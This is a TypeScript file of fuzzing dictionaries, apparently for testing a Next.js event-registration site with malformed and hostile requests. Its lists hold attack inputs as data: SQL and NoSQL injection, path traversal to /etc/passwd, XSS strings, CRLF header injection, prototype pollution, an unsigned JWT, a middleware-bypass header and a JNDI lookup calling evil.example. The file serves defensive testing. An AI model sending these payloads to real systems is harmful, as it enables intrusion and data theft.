/** Values in place of a key, an identifier or a token. */
export const KEYS = [
  '%', '%ff', '%00', '%2F', '%2e%2e%2f', '..', '../', '%E0%A4%A', '%C0%AF', '%25', '%0d%0aX:y', '\\', ';', '~', '~cGFnZT0y', '[a]', '[[...a]]', '\xff', 'nope',
  '.ics', '.rsc', '.png', '.json', 'users', 'login', '__proto__', 'constructor', 'toString', '%F0%9F%8E%B7', '@', ':', '|', '"', '<', "'", '*', '&', '=', '-1', '0', 'NaN', 'null', 'undefined',
  '3f0b1a9e-1111-4222-8333-123456789abc', '0'.repeat(56), 'a'.repeat(300), 'a'.repeat(3000), 'eyJhbGciOiJub25lIn0.e30.', '(.)', '(..)a', '%5B%5D', '$1', '{{7*7}}', '%E1%83%90', '\xe1\x83\x90',
]

export const QUERY_NAMES = [
  'lang', 'select', 'all', 'page', 'limit', 'sort', 'keyword', 'identifier', '_id', 'event', 'isFeatured', 'country', 'cohort', 'tag', 'day', 'stage', 'format', 'speaker', 'since', 'next', 'step', 'token',
  'error', '_rsc', '__nextLocale', '__nextDefaultLocale', 'nxtPlocale', 'nxtPeventIdentifier', 'slug', 'where[a]', 'where[or][0][id][equals]', 'where[email][like]', 'select[', 'select[a][b]', 'depth', 'draft', 'locale', 'fallback-locale', 'populate[a]', 'joins[a]',
  'trash', 'pagination', 'x', '__proto__', '__proto__[a]', 'constructor[prototype][a]', 'a[]', '', '%', '%ff',
]

export const QUERY_VALUES = [
  'en', 'ge', 'ka', 'true', 'false', '1', '0', '-1', '101', '1e9', '999999999999999999999', 'NaN', '', '%20', 'title', '-title', '_status', '__proto__', 'constructor', 'toString', 'summit-2027', 'nino-kapanadze',
  '%', '%ff', '%00', '%E0%A4%A', '%0d%0aSet-Cookie:a=b', '%F0%9F%8E%B7', '%E1%83%90', '%25', '_', '\\', "'%20OR%201=1%20--", '%22', '{%22$gt%22:%22%22}', '//evil.example', 'https://evil.example', 'javascript:alert(1)',
  '../../etc/passwd', '2027-02-30', '2027-05-14', '%3Cscript%3E', 'a'.repeat(500), '*', '[object%20Object]',
]

export const BODIES = [
  '', '{}', '{', '[]', '[[', 'null', '"x"', '1', '1e999', '{"a":', '\x00', '\xef\xbb\xbf{}', '[['.repeat(2000), '{"a":'.repeat(2000), '{"__proto__":{"a":1}}', '{"constructor":{"prototype":{"a":1}}}', '{"email":"\xff"}', '{"email":{"$gt":""}}', '{"email":"a@b.example"}',
  '{"email":"\\ud800@b.example"}', '{"event":["summit-2027"],"email":[]}', '{"event":"summit-2027","email":"x@y.example","fullName":"\\u0000"}', 'a=b', '%', '%=%ff&__proto__=x', '&&&', '_payload={', '--x\r\n',
  '--x\r\nContent-Disposition: form-data; name="_payload"\r\n\r\n{\r\n--x--\r\n', '--x\r\nContent-Disposition: form-data; name="file"; filename="../a.png"\r\nContent-Type: image/png\r\n\r\nno picture\r\n--x--\r\n',
  '--x\r\nContent-Disposition: form-data\r\n\r\n\r\n--x--\r\n', '--x\r\nContent-Disposition: form-data; name="$ACTION_ID_0"\r\n\r\n\r\n--x--\r\n', '["$K1"]', '<xml/>', 'x'.repeat(70_000),
]

export const FIELDS = [
  'event', 'email', 'fullName', 'phone', 'organization', 'position', 'country', 'consent', 'answers', 'kind', 'message', 'subject', 'token', 'password', 'code', 'birthDate', 'link', 'homepage', 'page', 'lang', '_id', 'id', 'title',
  'identifier', 'startsAt', 'endsAt', 'capacity', 'name', 'tier', 'position', 'role', 'isActivated', 'roles', 'group', 'image', 'device', 'scans', 'force', 'seats', '__proto__', 'x', '_status', 'data', 'collection', 'user',
]

export const CONTENTS = [
  '""', '" "', '"summit-2027"', '"nobody@example.com"', '"2026-02-30"', '"javascript:alert(1)"', '"\\ud800"', '"\\u0000"', '"%"', '"🎷"', `"${'a'.repeat(5000)}"`, '0', '-1', '1.5', '1e308', 'true', 'false', 'null', '[]', '[null]', '[[]]', '{}', '{"en":"x","ge":null}', '{"$gt":""}',
  '{"__proto__":1}', '[{"id":"1","at":"x"}]', '"3f0b1a9e-1111-4222-8333-123456789abc"', '"admin"', '"contact"', '"guest"',
]

export const TYPES = [
  'application/json', 'application/json', 'application/json', 'application/json; charset=utf-16', 'application/x-www-form-urlencoded', 'multipart/form-data', 'multipart/form-data; boundary=x', 'multipart/form-data; boundary=', 'text/plain', 'text/plain;charset=UTF-8',
  'text/x-component', 'image/png', 'x', '', '\xff', 'application/json, text/html',
]

/** A header and what it may say. */
export const HEADERS = {
  Accept: ['*/*', 'text/html', 'application/json', '', 'x', 'text/html;q=2', 'text/x-component'],
  'Accept-Encoding': ['gzip', 'br', 'identity;q=0, *;q=0', 'x', '', 'gzip;q=nope', '\xff'],
  'Accept-Language': ['ka', 'xx-XX;q=9', '\xff', '*', ','.repeat(500)],
  Range: ['bytes=0-', 'bytes=9999999999-', 'bytes=-1', 'bytes=5-1', 'x', 'bytes=0-1,3-4'],
  'If-None-Match': ['*', '"x"', 'W/', '\xff', '"'.repeat(900)],
  'If-Modified-Since': ['x', 'Sat, 31 Feb 9999 99:99:99 GMT'],
  'If-Range': ['x'],
  Origin: ['null', 'https://evil.example', 'x', 'http://[', '\xff', 'http://localhost'],
  Referer: ['x', '//', 'http://%', 'javascript:alert(1)', 'http://localhost/%ff'],
  'Sec-Fetch-Site': ['cross-site', 'same-origin', 'x'],
  'Sec-Purpose': ['prefetch'],
  Cookie: ['token=x', 'token=a.b.c', 'XSRF-TOKEN=%', 'XSRF-TOKEN=a; token=%ff', 'local-lang=ge', 'local-lang=%', 'local-lang=__proto__', '=', ';;;', 'a', '__prerender_bypass=x', '__next_preview_data=x; __prerender_bypass=x', 'payload-token=x', 'sign-in-step=x', 'signed-in=1', '\xff=\xff', `a=${'b'.repeat(6000)}`],
  token: ['x', 'a.b.c', '\xff', 'eyJhbGciOiJub25lIn0.e30.'],
  Authorization: ['JWT x', 'Basic %', 'Bearer', 'users API-Key x'],
  'X-XSRF-TOKEN': ['x', '%', '\xff'],
  'X-Forwarded-For': ['x', '::1, 1.2.3.4', ',', '999.999.999.999'],
  'X-Forwarded-Host': ['evil.example', '[', '\xff', 'a b'],
  'X-Forwarded-Proto': ['https', 'x', ''],
  'X-Forwarded-Port': ['x', '99999'],
  Forwarded: ['for=x;proto=y'],
  'X-Request-Id': ['x', '\xff', 'a'.repeat(2000), '${jndi:ldap://evil.example}'],
  'X-HTTP-Method-Override': ['GET', 'DELETE', 'x'],
  'X-Payload-HTTP-Method-Override': ['GET', 'x'],
  Upgrade: ['websocket', 'h2c', 'x'],
  Expect: ['100-continue', 'x'],
  'Content-Encoding': ['gzip', 'x'],
  'Content-Language': ['x'],
  RSC: ['1', 'x'],
  'Next-Router-State-Tree': ['x', '%', '%5B%5D', '[', '%5B%22%22%2C%7B%7D%5D', '%ff'],
  'Next-Router-Prefetch': ['1', '2', 'x'],
  'Next-Router-Segment-Prefetch': ['/_tree', '/x', '%', '/__PAGE__'],
  'Next-HMR-Refresh': ['1'],
  'Next-Url': ['/', '//', '%', '/event/(.)x'],
  'Next-Action': ['x', '0'.repeat(42), '%', '__proto__'],
  'Next-Resume': ['1'],
  'X-Nextjs-Data': ['1'],
  'X-Matched-Path': ['/admin', '%'],
  'X-Now-Route-Matches': ['1=x', '%'],
  'X-Invoke-Path': ['/admin', '%'],
  'X-Invoke-Status': ['500', 'x'],
  'X-Invoke-Error': ['x', '{}'],
  'X-Middleware-Subrequest': ['middleware:middleware:middleware:middleware:middleware', 'x'],
  'X-Middleware-Prefetch': ['1'],
  'X-Prerender-Revalidate': ['x'],
  'X-Client-Address': ['x', '127.0.0.1'],
  'X-Not-Here': ['1'],
  'X-Nonsense': ['\xff', 'a'.repeat(7000)],
}

export const METHODS = ['GET', 'GET', 'GET', 'GET', 'GET', 'HEAD', 'OPTIONS', 'POST', 'POST', 'PUT', 'PATCH', 'DELETE', 'TRACE', 'PROPFIND', 'QUERY', 'get', 'X']
